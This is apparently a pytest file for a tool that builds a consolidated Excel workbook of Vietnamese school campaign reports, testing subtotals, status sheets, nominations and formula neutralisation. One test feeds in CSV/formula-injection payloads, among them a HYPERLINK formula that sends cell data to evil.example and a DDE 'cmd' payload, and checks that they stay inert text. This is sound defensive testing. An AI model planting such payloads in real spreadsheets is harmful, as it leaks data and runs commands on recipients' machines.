"""The consolidated workbook: the City's form with subtotals, the status sheet, nominations,
formula neutralisation, and the build time for 5,000 units."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import timedelta

import openpyxl

from notifier.workbook import NOMINATION_SHEET, STATUS_SHEET, SUMMARY_SHEET, build_workbook
from parsers.facts import Nomination, TableRow
from store.queries import UnitData
from tests.support.workbookdata import DEADLINE, TITLE, make_campaign, roster_units

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "@SUM(1)",
    "＝1+1",
    "-2+3",
    "\t=1+1",
)


def _load(blob: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(blob))


def _sheet_xml(blob: bytes, index: int) -> str:
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def test_summary_sheet_totals_per_unit_kind_and_grand_total() -> None:
    status, data = make_campaign(roster_units())
    wb = _load(build_workbook(status, data, now=DEADLINE))
    ws = wb[SUMMARY_SHEET]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "TỔNG HỢP SỐ LIỆU KẾT QUẢ TỔ CHỨC TUẦN LỄ"
    assert rows[1][0] == TITLE
    assert rows[4][:6] == ("STT", "Các hoạt động", "Đơn vị tổ chức", "Số lượng", None, "Ghi chú")
    assert rows[5][3:5] == ("Số lớp/số cuộc thi", "Người")
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A5:A6", "B5:B6", "C5:C6", "D5:E5", "F5:F6", "A1:F1"} <= merged

    labels = {
        r[1]: (r[3], r[4]) for r in rows if isinstance(r[1], str) and r[1].startswith("Cộng ")
    }
    with_rows = [d for d in data if d.rows]
    for d in with_rows:
        exp_c = sum(r.classes_or_contests or 0 for r in d.rows)
        exp_p = sum(r.participants or 0 for r in d.rows)
        assert labels[f"Cộng {d.name}"] == (exp_c or None, exp_p or None), d.code
    thcs = [d for d in with_rows if d.kind == "thcs"]
    assert labels["Cộng THCS"] == (
        sum(r.classes_or_contests or 0 for d in thcs for r in d.rows),
        sum(r.participants or 0 for d in thcs for r in d.rows),
    )
    (grand,) = [r for r in rows if r[1] == "TỔNG CỘNG"]
    assert grand[3] == sum(r.classes_or_contests or 0 for d in data for r in d.rows)
    assert grand[4] == sum(r.participants or 0 for d in data for r in d.rows)
    # Groups follow the district's order of unit kinds.
    kind_rows = [r[1] for r in rows if r[0] in ("I", "II", "III", "IV", "V", "VI", "VII")]
    assert kind_rows[:3] == ["UBND XÃ/THỊ TRẤN", "TT HTCĐ", "MẦM NON"]
    assert f"từ {len(with_rows)}/{len(status.units)} đơn vị" in rows[2][0]


def test_status_and_nomination_sheets() -> None:
    status, data = make_campaign(roster_units())
    wb = _load(build_workbook(status, data))
    ws = wb[STATUS_SHEET]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(status.units)
    by_code = {r[1]: r for r in rows}
    for u in status.units:
        r = by_code[u.code]
        assert r[2] == u.name
        assert (
            r[4] == {"complete": "Đã đủ", "incomplete": "Chưa đủ", "missing": "Chưa gửi"}[u.state]
        )
        assert r[5] == ("Quá hạn" if u.overdue else "Nộp muộn" if u.submitted_late else None)
        if u.submitted_at is not None:  # local wall time (UTC+7), naive in Excel
            assert r[6] == (u.submitted_at + timedelta(hours=7)).replace(tzinfo=None)
        if "photos" in u.missing:
            assert "Hình ảnh minh chứng" in r[9]
    assert ws.cell(row=2, column=7).number_format == "dd/mm/yyyy hh:mm"

    noms = list(wb[NOMINATION_SHEET].iter_rows(min_row=2, values_only=True))
    assert len(noms) == sum(len(d.nominations) for d in data)
    assert [n[0] for n in noms] == list(range(1, len(noms) + 1))
    assert noms[0][3] == "Tập thể" and noms[1][3] == "Cá nhân"
    assert noms[1][2].startswith("Nguyễn Thị Hồng")


def test_sender_text_never_becomes_a_formula() -> None:
    status, data = make_campaign(roster_units()[:6])
    d = next(d for d in data if d.rows)
    hostile_rows = tuple(
        TableRow(stt=h, activity=h, organizer=h, classes_or_contests=1, participants=2, note=h)
        for h in HOSTILE
    )
    data[data.index(d)] = UnitData(
        d.code,
        d.name,
        d.kind,
        hostile_rows,
        (Nomination("=1", "=cmd|' /C calc'!A0", False, "+1", "@x", "-1"),),
    )
    blob = build_workbook(status, data)
    wb = _load(blob)
    seen = 0
    for ws in (wb[SUMMARY_SHEET], wb[NOMINATION_SHEET]):
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@＝\t":
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, cell.coordinate
                    seen += 1
    assert seen == 4 * len(HOSTILE) + 4  # the nomination STT is ours
    assert {c.value for c in wb[SUMMARY_SHEET]["B"]} >= set(HOSTILE)
    for index in (1, 2, 3):
        xml = _sheet_xml(blob, index)
        assert "<f>" not in xml and "<f " not in xml
    # The sums next to them are still numbers.
    (grand,) = [r for r in wb[SUMMARY_SHEET].iter_rows(values_only=True) if r[1] == "TỔNG CỘNG"]
    assert isinstance(grand[3], int)


def test_empty_campaign_still_builds() -> None:
    status, _ = make_campaign(roster_units()[:3])
    wb = _load(build_workbook(status, []))
    rows = list(wb[SUMMARY_SHEET].iter_rows(values_only=True))
    assert rows[-1][1] == "TỔNG CỘNG" and rows[-1][3] is None
    assert wb[STATUS_SHEET].max_row == 4


def test_large_campaign_lists_are_cut_in_the_digest_not_the_workbook() -> None:
    """600 units: the digest's lists are cut (Gmail clips big HTML), the workbook keeps all.
    Build times for 5,000 units are measured by bench/run.py, not here."""
    from notifier.digest import compose_digest
    from notifier.render import make_env

    base = roster_units()
    units = [(f"{c}-{i}", f"{n} ({i})", k, e) for i in range(6) for c, n, k, e in base][:600]
    status, data = make_campaign(units, seed=3, rows_per_unit=4)
    blob = build_workbook(status, data, now=DEADLINE)
    mail = compose_digest(
        status,
        since=None,
        now=DEADLINE,
        workbook=blob,
        env=make_env(),
        recipients=("totrunghoc@thanhoai.example",),
    )
    assert len(mail.html or "") < 150_000
    wb = openpyxl.load_workbook(io.BytesIO(blob), read_only=True)
    assert sum(1 for _ in wb[STATUS_SHEET].iter_rows(values_only=True)) == 601
    assert re.search(r"và \d+ mục khác", mail.text)
